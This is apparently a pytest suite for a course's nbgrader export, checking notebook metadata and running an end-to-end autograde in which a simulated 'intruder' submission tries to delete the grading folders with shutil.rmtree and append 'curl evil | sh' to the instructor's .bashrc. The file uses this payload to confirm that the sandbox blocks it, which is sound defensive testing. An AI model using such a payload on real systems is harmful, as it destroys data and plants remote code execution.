"""The nbgrader export (``./course.sh nbgrader DIR``), checked against nbgrader itself.

The quick tests read what the export writes for every lesson. The slow one runs the
instructor guide's nbgrader commands exactly as written, from the course folder, with
an empty home: ``./course.sh nbgrader ~/grading`` installs nbgrader into
``.venv-nbgrader`` (git-ignored, kept between runs and rebuilt when
requirements-nbgrader.txt changes), ``source .venv-nbgrader/bin/activate`` puts it on
the PATH, and ``generate_assignment``, ``autograde`` and ``export`` grade lesson 03 for
four submissions (the solutions, the untouched copy, one wrong answer, and an intruder
that attacks the instructor's files). Each test cell's score is compared with the
verdict its check printed, and checksums prove the intruder changed nothing.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from course_tools import nbgrader_export
from course_tools.config import ROOT
from course_tools.lessons import CourseExercises
from course_tools.lessons import find_exercises
from course_tools.notebook_format import BEGIN_SOLUTION
from course_tools.notebook_format import SOLUTION_ONLY_TAGS
from course_tools.notebook_format import tags
from course_tools.sandbox import sandbox_support

GRADE_ID = re.compile(r"^[a-zA-Z0-9_-]+$")
COURSE = CourseExercises()


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    target = tmp_path_factory.mktemp("nbgrader-course")
    lines: list[str] = []
    written = nbgrader_export.export(target, COURSE, say=lines.append)
    return target, written, lines


def nbgrader_cells(nb):
    return [(cell, cell.metadata["nbgrader"]) for cell in nb.cells]


# ------------------------------------------------------------------ what is written


def test_every_lesson_with_exercises_is_exported_under_source(exported):
    target, written, lines = exported
    expected = [lesson for lesson in COURSE.lessons if COURSE.exercises(lesson)]
    assert [p.relative_to(target).as_posix() for p in written] == [
        f"source/{lesson.slug}/{lesson.filename}" for lesson in expected
    ]
    assert (target / "nbgrader_config.py").is_file()
    skipped = [lesson for lesson in COURSE.lessons if not COURSE.exercises(lesson)]
    for lesson in skipped:
        assert f"{lesson.slug}: skipped, it has no exercises." in lines


def test_every_cell_has_valid_nbgrader_metadata(exported):
    _, written, _ = exported
    for path in written:
        nb = nbformat.read(path, as_version=4)
        nbformat.validate(nb)
        ids = []
        for cell, meta in nbgrader_cells(nb):
            assert meta["schema_version"] == 3
            assert set(meta) >= {"grade", "grade_id", "locked", "solution", "task"}
            assert GRADE_ID.match(meta["grade_id"]), meta["grade_id"]
            ids.append(meta["grade_id"])
            if meta["grade"]:
                assert isinstance(meta["points"], int)
            if cell.cell_type == "markdown" and meta["solution"]:
                assert meta["grade"]  # nbgrader's rule for written answers
        assert len(ids) == len(set(ids)), f"{path.name}: duplicate grade ids"


def test_lesson_07_is_exported_with_its_four_checks(exported):
    _, written, _ = exported
    path = next(p for p in written if p.name.startswith("07-"))
    grade_ids = [
        meta["grade_id"] for _, meta in nbgrader_cells(nbformat.read(path, 4)) if meta["grade"]
    ]
    assert grade_ids == [f"exercise-7-{n}-check" for n in (1, 2, 3, 4)]


def test_checks_are_locked_autograded_cells_worth_their_stars(exported):
    _, written, _ = exported
    for path in written:
        lesson = COURSE.by_filename(path.name)
        nb = nbformat.read(path, as_version=4)
        tests = [(cell, meta) for cell, meta in nbgrader_cells(nb) if meta["grade"]]
        exercises = COURSE.exercises(lesson)
        assert len(tests) == len(exercises)
        for (cell, meta), exercise in zip(tests, exercises):
            assert meta["locked"] and not meta["solution"]
            assert meta["points"] == max(1, exercise.stars)
            assert meta["grade_id"] == f"exercise-{exercise.number.replace('.', '-')}-check"
            assert cell.source.startswith("from autodiff_course.checking import strict_checks\n")
            assert "with strict_checks():\n" in cell.source
            assert f"    check.{exercise.check}({exercise.answer})" in cell.source
            assert cell.outputs == []


def test_solution_regions_are_solution_cells_and_the_rest_is_read_only(exported):
    _, written, _ = exported
    for path in written:
        nb = nbformat.read(path, as_version=4)
        solutions = 0
        for cell, meta in nbgrader_cells(nb):
            assert not tags(cell) & SOLUTION_ONLY_TAGS
            if BEGIN_SOLUTION in cell.source:
                assert meta["solution"] and not meta["locked"]
                solutions += 1
            elif not meta["grade"]:
                assert meta["locked"] and not meta["solution"], cell.source[:80]
            if cell.cell_type == "code":
                assert cell.outputs == [] and cell.execution_count is None
        assert solutions >= len(COURSE.exercises(COURSE.by_filename(path.name)))


def test_the_export_prints_the_points_and_keeps_an_edited_config(tmp_path, capsys):
    assert nbgrader_export.main([str(tmp_path), "--lessons", "01"]) == 0
    out = capsys.readouterr().out
    assert "Points: one point per filled difficulty star" in out
    lesson = COURSE.by_number(1)
    total = sum(e.points for e in COURSE.exercises(lesson))
    assert f"{total} points" in out
    config = tmp_path / "nbgrader_config.py"
    config.write_text("# mine\n")
    assert nbgrader_export.main([str(tmp_path), "--lessons", "01"]) == 0
    assert "nbgrader_config.py: kept as it is." in capsys.readouterr().out
    assert config.read_text() == "# mine\n"


def test_a_file_in_place_of_the_folder_is_one_clear_line(tmp_path, capsys):
    target = tmp_path / "course"
    target.write_text("not a folder")
    assert nbgrader_export.main([str(target)]) == 1
    out = capsys.readouterr().out.strip().splitlines()
    assert out == [f"{target}: exists and is not a folder; name a folder for the course."]


# -------------------------------------------------------------- nbgrader end to end

GUIDE_HEADER = ROOT / "instructors" / "guide-header.md"
GRADING_VENV = ROOT / ".venv-nbgrader"  # what ./course.sh nbgrader installs
LESSON = "03-custom-gradients"  # the guide's example
VERDICT_LINE = re.compile(
    r"^(?:✅|❌|⏳) Exercise (\d+\.\d+) \(.*\): (correct|not yet|not attempted yet)\."
)


def guide_commands() -> list[str]:
    """The lines of the guide's nbgrader block, exactly as written."""
    text = GUIDE_HEADER.read_text(encoding="utf-8")
    section = text[text.index("## Grading with nbgrader") :]
    return re.search(r"```bash\n(.*?)```", section, re.S).group(1).splitlines()


def test_the_guide_grades_lesson_03_with_a_sandboxed_autograde():
    lines = guide_commands()
    assert lines[0].startswith("./course.sh nbgrader ~/grading")
    assert lines[1].startswith("source .venv-nbgrader/bin/activate")
    assert any(line.startswith(f"nbgrader autograde {LESSON}") for line in lines)
    config = nbgrader_export.NBGRADER_CONFIG
    assert "c.Autograde.autograde_preprocessors = autograde_steps()" in config
    assert "c.SandboxedKernelManager.copy_working_folder = True" in config


HAND_IN = r"""
import json, sys
from pathlib import Path
import nbformat
from course_tools.lessons import find_exercises

lesson, intruder_code = sys.argv[1], json.loads(sys.argv[2])
source = nbformat.read(Path("source", lesson, lesson + ".ipynb"), as_version=4)
untouched = nbformat.read(Path("release", lesson, lesson + ".ipynb"), as_version=4)


def answer_cells(nb):
    return [c for c in nb.cells if c.cell_type == "code" and c.metadata["nbgrader"]["solution"]]


wrong = nbformat.from_dict(json.loads(json.dumps(source)))
target = next(f for f in find_exercises(wrong) if f.answer and f.answer.isidentifier())
cell = next(
    c for c in wrong.cells[target.heading_cell : target.check_cell] if c in answer_cells(wrong)
)
cell.source += (
    f"\n\n_right_answer = {target.answer}\n\n"
    f"def {target.answer}(*args, **kwargs):  # wrong: twice the right value\n"
    f"    return 2 * _right_answer(*args, **kwargs)\n"
)
intruder = nbformat.from_dict(json.loads(json.dumps(source)))
answer_cells(intruder)[0].source = intruder_code + "\n\n" + answer_cells(intruder)[0].source
for student, nb in {
    "correct": source, "untouched": untouched, "wrong": wrong, "intruder": intruder
}.items():
    folder = Path("submitted", student, lesson)
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / (lesson + ".ipynb"))
"""


GRADEBOOK_SCRIPT = """
import json, sys
from nbgrader.api import Gradebook
with Gradebook("sqlite:///gradebook.db") as gradebook:
    assignment = gradebook.find_assignment(sys.argv[1])
    print(json.dumps({
        submission.student.id: {
            "score": submission.score, "max_score": submission.max_score,
            "cells": {grade.name: grade.score for grade in submission.notebooks[0].grades},
        } for submission in assignment.submissions}))
"""


def checksums(folder: Path) -> dict[str, str]:
    import hashlib

    return {
        str(p): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The guide's commands, run as written from the course folder, with ``~`` an empty
    home; where the guide says to hand out and collect, four submissions are handed in:
    the solutions, the untouched copy, one wrong answer, and an intruder that tries to
    delete the course's nbgrader folders, scribble in the home and the gradebook."""
    home = tmp_path_factory.mktemp("instructor-home")
    (home / ".bashrc").write_text("# the instructor's shell settings\n")
    grading = home / "grading"
    intruder_code = (
        "import shutil\n"
        f"shutil.rmtree({str(grading / 'source')!r}, ignore_errors=True)\n"
        f"shutil.rmtree({str(grading / 'release')!r}, ignore_errors=True)\n"
        "for _name, _text in (\n"
        f"    ({str(home / '.bashrc')!r}, 'curl evil | sh'),\n"
        f"    ({str(grading / 'gradebook.db')!r}, 'junk'),\n"
        "):\n"
        "    try:\n"
        "        open(_name, 'a').write(_text)\n"
        "    except OSError:\n"
        "        pass"
    )
    hand_in = home / "hand_in.py"
    hand_in.write_text(HAND_IN)
    lines = guide_commands()
    hook = next(index for index, line in enumerate(lines) if line.startswith("#"))
    lines[hook] = f'"$HAND_IN_PYTHON" "$HAND_IN" {LESSON} {shlex.quote(json.dumps(intruder_code))}'
    environment = {k: v for k, v in os.environ.items() if not k.startswith("AUTODIFF_COURSE_")}
    for name in ("VIRTUAL_ENV", "COURSE_VENV", "PYTHONPATH", "JUPYTER_PATH"):
        environment.pop(name, None)
    environment.update(
        HOME=str(home),
        # pip keeps using the machine's cache though the home is new
        PIP_CACHE_DIR=os.environ.get("PIP_CACHE_DIR")
        or str(Path(os.path.expanduser("~")) / ".cache" / "pip"),
        HAND_IN=str(hand_in),
        HAND_IN_PYTHON=sys.executable,
    )
    # Right after the hand-in, a copy of what autograde must leave alone (checksums).
    lines.insert(
        hook + 1, "mkdir ../protected-before && cp -r source release submitted ../protected-before"
    )
    script = "set -euo pipefail\n" + "\n".join(lines) + "\n"
    done = subprocess.run(
        ["bash", "-c", script],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
        timeout=1800,
    )
    assert done.returncode == 0, f"{done.stdout[-3000:]}\n{done.stderr[-5000:]}"
    assert "[AutogradeApp | ERROR]" not in done.stderr, done.stderr[-5000:]
    result = subprocess.run(
        [str(GRADING_VENV / "bin" / "python"), "-c", GRADEBOOK_SCRIPT, LESSON],
        cwd=grading,
        env=environment,
        capture_output=True,
        text=True,
        check=True,
    )
    return {
        "home": home,
        "grading": grading,
        "log": done.stderr,
        "scores": json.loads(result.stdout),
        "source": grading / "source" / LESSON / f"{LESSON}.ipynb",
    }


def autograded_cells(path: Path) -> list[tuple[str, str, int]]:
    """(exercise number, grade_id, points) of each autograded cell, from the export."""
    nb = nbformat.read(path, as_version=4)
    by_cell = {f.check_cell: f.number for f in find_exercises(nb)}
    return [
        (by_cell[index], cell.metadata["nbgrader"]["grade_id"], cell.metadata["nbgrader"]["points"])
        for index, cell in enumerate(nb.cells)
        if cell.metadata["nbgrader"]["grade"]
    ]


def verdicts(graded, student: str) -> dict[str, str]:
    """Exercise number -> status, as each check printed it while autograde ran."""
    path = graded["grading"] / "autograded" / student / LESSON / f"{LESSON}.ipynb"
    found = {}
    for cell in nbformat.read(path, as_version=4).cells:
        for output in cell.get("outputs", []):
            for line in output.get("text", "").splitlines():
                match = VERDICT_LINE.match(line)
                if match:
                    found[match.group(1)] = match.group(2)
    return found


def expected_cells(graded, student: str) -> dict[str, float]:
    statuses = verdicts(graded, student)
    return {
        grade_id: float(points) if statuses.get(number) == "correct" else 0.0
        for number, grade_id, points in autograded_cells(graded["source"])
    }


def test_nbgrader_gives_full_marks_to_the_solutions(graded):
    result = graded["scores"]["correct"]
    total = sum(points for _, _, points in autograded_cells(graded["source"]))
    assert set(verdicts(graded, "correct").values()) == {"correct"}
    assert result["max_score"] == total
    assert result["score"] == total
    assert result["cells"] == expected_cells(graded, "correct")


def test_nbgrader_gives_nothing_to_an_untouched_notebook(graded):
    result = graded["scores"]["untouched"]
    assert set(verdicts(graded, "untouched").values()) == {"not attempted yet"}
    assert result["score"] == 0
    assert result["cells"] == expected_cells(graded, "untouched")


def test_nbgrader_takes_off_the_points_of_a_wrong_answer(graded):
    result = graded["scores"]["wrong"]
    first = autograded_cells(graded["source"])[0]
    assert verdicts(graded, "wrong")[first[0]] == "not yet"
    cells = expected_cells(graded, "wrong")
    assert result["cells"] == cells
    assert result["score"] == sum(cells.values()) <= result["max_score"] - first[2]


def test_autograde_runs_each_submission_in_the_sandbox(graded):
    if not sandbox_support().available:
        pytest.skip(f"no sandbox here: {sandbox_support().reason}")
    assert "Each notebook runs in a sandbox (bubblewrap)" in graded["log"]


def test_an_intruding_submission_changes_nothing_outside_its_temporary_folder(graded):
    if not sandbox_support().available and not os.environ.get("CI"):
        pytest.skip(f"no sandbox here: {sandbox_support().reason}")
    home, grading = graded["home"], graded["grading"]
    assert (home / ".bashrc").read_text() == "# the instructor's shell settings\n"
    before = checksums(home / "protected-before")
    after = {
        k.replace(str(grading), str(home / "protected-before")): v
        for k, v in {
            **checksums(grading / "source"),
            **checksums(grading / "release"),
            **checksums(grading / "submitted"),
        }.items()
    }
    assert after == before
    assert graded["scores"]["intruder"]["score"] == graded["scores"]["correct"]["score"]
